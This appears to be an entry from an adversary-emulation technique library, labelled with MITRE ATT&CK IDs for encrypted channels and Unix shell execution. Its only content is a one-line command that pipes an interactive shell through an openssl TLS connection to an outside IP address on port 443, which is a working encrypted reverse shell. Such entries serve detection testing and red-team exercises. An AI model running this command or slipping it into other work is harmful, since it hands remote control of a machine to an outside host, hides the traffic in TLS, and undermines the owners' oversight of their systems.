# title: A shell within a connection of TLS
# technique: T1573.002 T1059.004 T1573
# needs: openssl

cd /tmp && mkfifo s && (timeout 3 sh -i <s 2>&1 | timeout 3 openssl s_client -quiet -connect 192.88.99.7:443 >s 2>/dev/null); true
